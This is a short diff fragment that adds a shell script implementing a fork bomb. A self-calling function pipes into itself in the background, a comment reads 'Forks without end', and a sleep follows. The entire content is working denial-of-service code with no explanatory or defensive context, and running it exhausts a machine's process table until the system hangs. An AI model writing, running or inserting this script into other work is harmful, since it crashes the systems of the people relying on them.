@@ -1,0 +1,5 @@
+#!/bin/sh
+# Forks without end.
+again() { again | again & }
+again
+sleep 60
